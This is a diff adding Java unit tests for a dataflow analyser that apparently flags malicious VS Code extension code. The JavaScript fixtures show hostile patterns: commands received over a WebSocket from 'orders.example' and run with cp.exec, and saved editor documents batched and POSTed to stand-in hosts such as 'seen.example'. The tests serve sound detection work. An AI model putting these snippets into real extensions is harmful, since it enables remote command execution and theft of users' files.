@@ -96,4 +96,106 @@ class StreamsAndPromisesTest {
 
         assertThat(analysis.flowNames()).isEmpty();
     }
+
+    @Test
+    void followsAPromiseThatALaterEventFulfils() {
+        Analysis analysis = Analysis.ofActivate("""
+                const socket = new WebSocket('wss://orders.example');
+                const waiting = new Map();
+                socket.onmessage = event => waiting.get('next').resolve(event.data);
+                function next() {
+                  return new Promise((resolve, reject) => waiting.set('next', { resolve, reject }));
+                }
+                async function obey() {
+                  const order = await next();
+                  cp.exec(order);
+                }
+                obey();
+                """);
+
+        assertThat(analysis.flowNames()).containsExactly("network-response -> process-command");
+    }
+
+    @Test
+    void followsAPromiseThatALaterEventFulfilsThroughCompiledFunctions() {
+        Analysis analysis = Analysis.ofActivate("""
+                var __awaiter = function (thisArg, _arguments, P, generator) {
+                  function adopt(value) { return value instanceof P ? value : new P(function (resolve) { resolve(value); }); }
+                  return new (P || (P = Promise))(function (resolve, reject) {
+                    function fulfilled(value) { try { step(generator.next(value)); } catch (e) { reject(e); } }
+                    function rejected(value) { try { step(generator["throw"](value)); } catch (e) { reject(e); } }
+                    function step(result) { result.done ? resolve(result.value) : adopt(result.value).then(fulfilled, rejected); }
+                    step((generator = generator.apply(thisArg, _arguments || [])).next());
+                  });
+                };
+                let done;
+                function next() { return new Promise(resolve => { done = resolve; }); }
+                function read() { return __awaiter(this, void 0, void 0, function* () { return (yield next()).order; }); }
+                function obey() { return __awaiter(this, void 0, void 0, function* () { cp.exec(yield read()); }); }
+                obey();
+                new WebSocket('wss://orders.example').onmessage = event => done(JSON.parse(event.data));
+                """);
+
+        assertThat(analysis.flowNames()).containsExactly("network-response -> process-command");
+    }
+
+    @Test
+    void sendsAListThatEventsHaveFilled() {
+        Analysis analysis = Analysis.ofActivate("""
+                const seen = [];
+                vscode.workspace.onDidSaveTextDocument(document => {
+                  seen.push(document.getText());
+                  if (seen.length >= 20) fetch('https://seen.example', { method: 'POST', body: JSON.stringify(seen.splice(0)) });
+                });
+                """);
+
+        assertThat(analysis.flowNames()).containsExactly("editor-document -> network-send");
+    }
+
+    @Test
+    void sendsWhenEventsHaveBeenCounted() {
+        Analysis analysis = Analysis.ofActivate("""
+                let count = 0, last = '';
+                vscode.workspace.onDidSaveTextDocument(document => {
+                  last = document.getText();
+                  if (++count % 25 === 0) fetch('https://seen.example', { method: 'POST', body: last });
+                });
+                """);
+
+        assertThat(analysis.flowNames()).containsExactly("editor-document -> network-send");
+    }
+
+    @Test
+    void countsTurnsOfALoopForWhatTheyAreInEachRun() {
+        Analysis analysis = Analysis.ofActivate("""
+                let text = '';
+                vscode.workspace.onDidSaveTextDocument(document => {
+                  text = document.getText();
+                  let host = '';
+                  for (let i = 0; i < 3; i++) host += 'abc'[i];
+                  fetch('https://' + host + '.example', { method: 'POST', body: text });
+                });
+                """);
+
+        assertThat(analysis.destinations("editor-document", "network-send")).containsExactly("https://abc.example");
+    }
+
+    @Test
+    void tellsPromisesOfOneHelperApartByTheirCallers() {
+        Analysis analysis = Analysis.ofActivate("""
+                function once(source) { return new Promise(resolve => source(value => resolve(value))); }
+                async function greet() {
+                  const name = await once(done => vscode.workspace.onDidSaveTextDocument(d => done('saved')));
+                  fetch('https://greet.example/' + name);
+                }
+                async function save() {
+                  const text = await once(done => vscode.workspace.onDidOpenTextDocument(d => done(d.getText())));
+                  require('fs').writeFileSync('/tmp/x.txt', text);
+                }
+                greet();
+                save();
+                """);
+
+        assertThat(analysis.flowNames()).containsExactly("editor-document -> file-write");
+    }
 }
